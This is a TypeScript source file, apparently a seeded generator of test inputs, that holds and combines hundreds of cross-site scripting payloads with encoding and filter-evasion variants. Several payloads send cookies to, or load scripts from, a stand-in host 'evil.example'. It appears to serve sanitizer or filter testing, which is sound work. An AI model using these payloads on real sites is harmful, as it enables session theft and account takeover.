import { Choices, type GeneratedText, linesOf, percentEncode } from "./random.ts";

const CALLS = linesOf(`
alert(1)
alert\`1\`
prompt(1)
confirm(document.domain)
print()
(alert)(1)
[1].find(alert)
a=alert,a(1)
top['al'+'ert'](1)
self[/*x*/'alert'](1)
window['alert'](1)
alert?.(1)
eval(atob('YWxlcnQoMSk='))
Function('alert(1)')()
setTimeout('alert(1)')
fetch('//evil.example/'+document.cookie)
import('//evil.example/x.js')
location='javascript:alert(1)'
location.href='//evil.example/?'+document.cookie
document.location='http://evil.example/?c='+document.cookie
new Image().src='//evil.example/'+document.cookie
document.write('<img src=x>')
window.onerror=alert;throw 1
$.getScript('//evil.example/x.js')
navigator.sendBeacon('//evil.example',document.cookie)
\\u0061lert(1)
al\\u0065rt(1)
this.constructor.constructor('alert(1)')()
`);

const EVENTS =
  "abort activate afterprint animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch beforeprint beforetoggle beforeunload begin blur bounce cancel canplay canplaythrough change click close contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend dragenter dragexit dragleave dragover dragstart drop durationchange end ended error finish focus focusin focusout formdata fullscreenchange gesturestart gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadedmetadata loadend loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel pagehide pagereveal pageshow pageswap paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ratechange repeat reset resize scroll scrollend scrollsnapchange search securitypolicyviolation seeked seeking select selectionchange selectstart show slotchange start storage submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting webkitanimationend webkitmouseforcedown webkittransitionend webkitplaybacktargetavailabilitychanged wheel".split(
    " ",
  );

const TAGS =
  "a abbr address article audio b body br button canvas center custom-element details dialog div em fieldset font form frameset h1 html iframe image img input isindex keygen label li link marquee math menu meter object option p pre q s section select source span strong style svg table td textarea title track u ul var video x xss".split(
    " ",
  );

/** What ends the place in the page that the value is put into. */
const BREAKOUTS = [
  "",
  "",
  "",
  '">',
  "'>",
  '"/>',
  "</title>",
  "</textarea>",
  "-->",
  "</script>",
  "]]>",
  "`>",
  "x",
];

/** Payloads that are whole values, each a class of its own. */
const WHOLE = linesOf(`
<script>alert(1)</script>
<script src=//evil.example/x.js></script>
<script/src=data:,alert(1)>
<script>fetch(\`//evil.example\`)</script>
<script>{onerror=alert}throw 1</script>
<script>throw onerror=alert,1</script>
<script>'alert\\x281\\x29'instanceof{[Symbol.hasInstance]:eval}</script>
<script type=module>import 'data:text/javascript,alert(1)'</script>
<script x>alert(1)</script x>
<script
>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1);//<</script>
<script>alert(1)
<svg><script>alert&lpar;1&rpar;</script>
<svg><script href=data:,alert(1) />
<svg/onload=alert(1)//
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a>
<svg><set attributename=href to=javascript:alert(1)>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x">
<svg><discard onbegin=alert(1)>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="&lt;img src=1 onerror=alert(1)&gt;"></iframe>
<iframe src=//evil.example></iframe>
<iframe/src="data:text/html,<svg onload=alert(1)>">
<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<object data="javascript:alert(1)">
<object data="data:text/html;base64,PHNjcmlwdD4="></object>
<form action="javascript:alert(1)"><input type=submit id=x></form>
<form><button formaction=javascript:alert(1)>x
<input type=image src=1 formaction="javascript:alert(1)">
<isindex action="javascript:alert(1)" type=image>
<a href="javascript:alert(1)">x</a>
<a href="jav&Tab;ascript:alert(1)">x</a>
<a href="jav&#x0D;ascript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="javascript:x='%27-alert(1)-%27';">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="//evil.example" ping="javascript:alert(1)">x</a>
<area shape=rect coords=0,0,9,9 href=javascript:alert(1)>
<base href="javascript:/a/-alert(1)///"><a href=../x>x</a>
<base href=//evil.example>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=import href="data:text/html,<script>alert(1)</script>">
<link rel="canonical" accesskey="X" onclick="alert(1)" />
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0; url=data:text/html,<script>alert(1)</script>">
<style>@import'//evil.example/x.css'</style>
<style>*{background:url(javascript:alert(1))}</style>
<style>@keyframes x{}</style><xss style="animation-name:x" onanimationend="alert(1)"></xss>
<div style="background:url(javascript:alert(1))">
<div style="width:expression(alert(1))">
<img src=javascript:alert(1)>
<img src="x\`\`onerror=alert(1)">
<img src=x onerror=\u0061lert(1)>
<img src=x:x onerror=alert(1)//
<img src onerror=alert(1)>
<img/src/onerror=alert(1)>
<img srcset=x onerror=alert(1)>
<image src=x onerror=alert(1)>
<img src=x onerror="&#97;lert(1)">
<img src=x onerror=eval('\\141lert(1)')>
<img src=x onerror=location=name>
<img src=1 oNeRrOr=alert\`1\`>
<img """><script>alert(1)</script>">
<video src=x onerror=alert(1)>
<video poster=javascript:alert(1)//></video>
<video><source onerror="alert(1)">
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>
<body onload=alert(1)>
<body background="javascript:alert(1)">
<body onhashchange="print()">
<table background="javascript:alert(1)">
<input autofocus onfocus=alert(1)>
<input type="hidden" accesskey="X" onclick="alert(1)">
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<frameset onload=alert(1)>
<applet code="javascript:alert(1)">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><s><template><s><img src=x onerror=alert(1)>x</s></template>
<xml><x><a><![CDATA[<img src=x onerror=alert(1)>]]></a></x></xml>
<!--<img src="--><img src=x onerror=alert(1)//">
<!--[if IE]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<!DOCTYPE x [<!ENTITY e "<script>alert(1)</script>">]><x>&e;</x>
"><svg/onload=confirm(1)>"@x.example
" onmouseover="alert(1)
" autofocus onfocus=alert(1) x="
' autofocus onfocus='alert(1)
"onclick=alert(1)//
" onpointerenter=alert(1) "
' onclick=alert(1) style='position:fixed
"><img src=x onerror=alert(1)>
"/><a href="javascript:alert(1)">
x" style="animation-name:x" onanimationstart="alert(1)
" accesskey="x" onclick="alert(1)" x="
';alert(1)//
';alert(1);'
'-alert(1)-'
'+alert(1)+'
'*alert(1)*'
'%2balert(1)%2b'
"-alert(1)-"
";alert(1);//
\\';alert(1)//
\\"};alert(1);//
'});alert(1);//
");alert(1);//
'];alert(1);//
\`;alert(1)//
\${alert(1)}
'-confirm\`1\`-'
'||alert(1)||'
'?alert(1):'
',alert(1),'
'^alert(1)^'
'&&alert(1)&&'
'/alert(1)/'
'in alert(1) in'
';document.location='//evil.example/?'+document.cookie;//
';window.location='http://evil.example';//
';top['ale'+'rt'](1);//
';onerror=alert;throw 1//
*/alert(1)/*
-alert(1)-
;alert(1);
alert(1)
alert(document.cookie)
javascript:alert(1)
JaVaScRiPt:alert(1)
javascript://%0aalert(1)
java\tscript:alert(1)
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>
jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
vbscript:msgbox(1)
javascript:eval('var a=document.createElement(\\'script\\');a.src=\\'//evil.example\\';document.body.appendChild(a)')
{{constructor.constructor('alert(1)')()}}
{{$on.constructor('alert(1)')()}}
{{$eval.constructor('alert(1)')()}}
{{[].pop.constructor('alert(1)')()}}
{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}
{{toString().constructor.prototype.charAt=[].join;[1]|orderBy:toString().constructor.fromCharCode(120,61,97,108,101,114,116,40,49,41)}}
{{_openBlock.constructor('alert(1)')()}}
{{_c.constructor('alert(1)')()}}
{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}
<div ng-app ng-csp><input autofocus ng-focus="$event.path|orderBy:'[].constructor.from([1],alert)'"></div>
<div v-html="''.constructor.constructor('alert(1)')()">a</div>
<x v-if=_c.constructor('alert(1)')()>
<x @click='$el.ownerDocument.defaultView.alert(1)'>
<div ng-app>{{constructor.constructor('alert(1)')()}}</div>
<img src=x onerror=[]['filter']['constructor']('alert(1)')()>
[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]
eval(String.fromCharCode(97,108,101,114,116,40,49,41))
window.location.assign('javascript:alert(1)')
document.body.innerHTML='<img src=x onerror=alert(1)>'
onerror=alert;throw 1
x onerror=alert(1)
onload=alert(1)
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
\xbcscript\xbealert(1)\xbc/script\xbe
<a onmouseover\t=\talert(1)>x
<a/onmouseover=alert(1)>x
<a\x0conmouseover=alert(1)>x
<button popovertarget=x>x</button><xss onbeforetoggle=alert(1) popover id=x>x</xss>
<input onauxclick=alert(1)>
<style onload=alert(1)></style>
<link rel=stylesheet href=data: onload=alert(1)>
<portal src=javascript:alert(1)>
<object><param name=movie value=javascript:alert(1)></object>
<a href=javas&#99;ript:alert(1)>x
<form id=x></form><button form=x formaction=javascript:alert(1)>x
<img src=1 href=1 onerror="javascript:alert(1)"></img>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<x contenteditable onblur=alert(1)>x</x>
<bgsound src="javascript:alert(1)">
<layer src="http://evil.example/x.js"></layer>
<xss style="behavior: url(x.htc);">
<br size="&{alert(1)}">
<div datafld="b" dataformatas="html" datasrc="#x"></div>
`);

const hex = (char: string): string => char.charCodeAt(0).toString(16).padStart(2, "0");

const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/[a-z]/g, (char, index: number) => (index % 2 ? char.toUpperCase() : char)),
  (text) => percentEncode(text),
  (text) => percentEncode(percentEncode(text)),
  (text) => percentEncode(text, /[\s\S]/g),
  (text) => text.replace(/[<>"'=]/g, (char) => `&#${char.charCodeAt(0)};`),
  (text) => text.replace(/[<>"'=]/g, (char) => `&#x${hex(char)}`),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replace(/[<>"']/g, (char) => `\\x${hex(char)}`),
  (text) => text.replace(/[<>"']/g, (char) => `\\u00${hex(char)}`),
  (text) => text.replace(/[<>"']/g, (char) => `%u00${hex(char)}`),
  (text) => text.replaceAll("<", "%uff1c").replaceAll(">", "%uff1e"),
  (text) => text.replaceAll("<", "\xef\xbc\x9c").replaceAll(">", "\xef\xbc\x9e"),
  (text) => text.replaceAll("<", "\xc0\xbc").replaceAll(">", "\xc0\xbe"),
  (text) => text.replaceAll("<", "<\0"),
  (text) => text.replaceAll("script", "scr\0ipt").replaceAll("on", "o\0n"),
];

const SEPARATORS = [" ", "/", "\t", "\n", "\f", "\r", " x ", "/x/", " x=y ", "/**/ ", '"x" '];
const SCHEMES = [
  "javascript:",
  "JavaScript:",
  "java\nscript:",
  "jav\tascript:",
  "java&#115;cript:",
  "javascript&#58;",
  "&#106;avascript:",
  "&#x6A;avascript:",
  "javascript&colon;",
  "\x01javascript:",
  " javascript:",
  "javascript:/**/",
  "javascript://%0a",
];
const ADDRESSES = [
  "a href",
  "iframe src",
  "form action",
  "object data",
  "embed src",
  "button formaction",
  "area href",
];

function handlerElement(choices: Choices, event: string): string {
  const separator = choices.one(SEPARATORS);
  const quote = choices.one(["", '"', "'"]);
  const call = choices.one(CALLS);
  const safe =
    quote === "" ? call.replaceAll(" ", "/**/") : call.replaceAll(quote, quote === '"' ? "'" : "`");
  const equals = choices.one(["=", "=", "=", " = ", "=\n"]);
  return `<${choices.one(TAGS)}${separator}on${event}${equals}${quote}${safe}${quote}${choices.one([">", " x>", "//", ""])}`;
}

/** Scripts: every whole value, and `count` elements with event handlers and addresses of script. */
export function generateScripts(count: number, seed = 2): readonly GeneratedText[] {
  const choices = new Choices(seed);
  const texts: GeneratedText[] = WHOLE.map((text) => ({ core: text, text }));
  for (let made = 0; made < count; made += 1) {
    const disguise = choices.integer(3) > 0 ? DISGUISES[0]! : choices.one(DISGUISES);
    const event = EVENTS[made % EVENTS.length]!;
    const kind = choices.integer(6);
    const quote = choices.one(['"', "'"]);
    if (kind < 4) {
      texts.push({ core: event, text: disguise(choices.one(BREAKOUTS) + handlerElement(choices, event)) });
    } else if (kind === 4) {
      const scheme = SCHEMES[made % SCHEMES.length]!;
      const text = `${choices.one(BREAKOUTS)}<${choices.one(ADDRESSES)}=${quote}${scheme}${choices.one(CALLS).replaceAll(quote, "`")}${quote}>x`;
      texts.push({ core: scheme, text: disguise(text) });
    } else {
      const call = choices.one(CALLS).replaceAll(quote, quote === '"' ? "'" : "`");
      texts.push({
        core: event,
        text: disguise(
          `${choices.one(["", "x", "a b"])}${quote}${choices.one([" ", "/", "\n", ""])}on${event}=${call} ${quote}`,
        ),
      });
    }
  }
  return texts;
}
